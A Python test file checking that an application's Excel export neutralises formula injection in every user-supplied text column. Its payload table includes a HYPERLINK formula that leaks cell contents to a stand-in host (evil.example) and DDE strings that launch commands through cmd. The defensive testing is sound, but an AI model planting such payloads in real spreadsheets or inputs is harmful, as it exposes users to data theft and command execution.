"""Formula injection in every exported user-text column (docs/security.md, requirement 18;
docs/workbook.md).

Every text a person typed or imported that reaches the workbook — applicant ids, names, e-mails and
organisations, item ids, reviewer e-mails and names, score comments, overall comments, the committee's
rationales for items and decisions and the deciding member's e-mail, and the cycle's name on the Summary —
starts with a formula trigger. The reloaded workbook must hold no formula cell, and each text exactly as typed.
(Prompts and essays are not exported: docs/workbook.md lists every column.)
"""

import io
import re

import openpyxl
import pytest

from app.committee.models import CommitteeResolution, Decision, DecisionValue
from app.exports.service import export_cycle_bytes
from app.extensions import db
from app.people.models import Role
from tests import factories as f
from tests.factories import ESSAY_DOMAINS

PREFIXES = {
    "equals": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-1+1",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage-return": "\r=1+1",
    "line-feed": "\n=1+1",
}


def build_cycle(prefix: str) -> tuple[object, set[str]]:
    """A cycle whose every exported user text starts with ``prefix``; returns it and those texts."""
    texts = {
        name: f"{prefix} {name}"
        for name in (
            "applicant_name",
            "item_id",
            "reviewer_name",
            "comment",
            "rationale",
            "organization",
            "overall_comment",
            "item_rationale",
        )
    }
    texts["applicant_id"] = f"{prefix} A-1"  # an applicant id has at most 60 characters (APP-<id> is an item id)
    emails = {name: f"{prefix}{name}@example.org" for name in ("reader.one", "reader.two", "chair")}
    cycle = f.make_cycle(f"{prefix}Formula cycle")
    readers = [
        f.make_user(Role.REVIEWER, email=emails[key], name=f"{texts['reviewer_name']} {n}")
        for n, key in enumerate(("reader.one", "reader.two"), start=1)
    ]
    chair = f.make_user(Role.COMMITTEE, email=emails["chair"], name="Chair")
    applicant = f.make_applicant(
        cycle,
        applicant_id=texts["applicant_id"],
        name=texts["applicant_name"],
        category="IMHM-C",
        mc_score=88,
        organization=texts["organization"],
    )
    applicant.email = f"{prefix}applicant@example.org"
    essay = f.make_essay(cycle, applicant, item_id=texts["item_id"], rubric_key="imhm-c-essay")
    for number, reader in enumerate(readers, start=1):
        read = f.submitted_read(
            f.assign(essay, reader),
            {key: 3 for key in ESSAY_DOMAINS},
            number=number,
            comments={key: texts["comment"] for key in ESSAY_DOMAINS},
        )
        read.overall_comment = texts["overall_comment"]
    db.session.add(
        CommitteeResolution(
            item_pk=essay.id,
            scores={key: 3 for key in ESSAY_DOMAINS},
            result="pass",
            rationale=texts["item_rationale"],
            decided_by_id=chair.id,
        )
    )
    db.session.add(
        Decision(
            application_id=applicant.application.id,
            decision=DecisionValue.REVISE,
            rationale=texts["rationale"],
            decided_by_id=chair.id,
        )
    )
    db.session.commit()
    expected = set(texts.values()) - {texts["reviewer_name"]}
    expected |= {f"{texts['reviewer_name']} 1", f"{texts['reviewer_name']} 2"} | set(emails.values())
    expected |= {f"{prefix}applicant@example.org", f"{prefix}Formula cycle: review summary"}
    return cycle, expected


@pytest.mark.parametrize("prefix", PREFIXES.values(), ids=PREFIXES.keys())
def test_no_exported_cell_is_a_formula_and_every_text_is_intact(app, prefix):
    with app.app_context():
        cycle, expected = build_cycle(prefix)
        workbook = openpyxl.load_workbook(io.BytesIO(export_cycle_bytes(cycle)))
    found = set()
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str) and cell.value[:1] in "=+-@\t\r\n":
                    assert cell.quotePrefix, f"{sheet.title}!{cell.coordinate} {cell.value!r} lacks the quote prefix"
                found.add(excel_text(cell.value))
    assert expected <= found, f"not exported as typed: {sorted(map(repr, expected - found))}"


def excel_text(value):
    """The text as Excel shows it: a CR is stored as Excel's escape ``_x000D_`` (a raw one would turn into LF when
    the XML is read), which Excel and calamine decode and openpyxl leaves as it is."""
    return re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m.group(1), 16)), value) if isinstance(value, str) else value
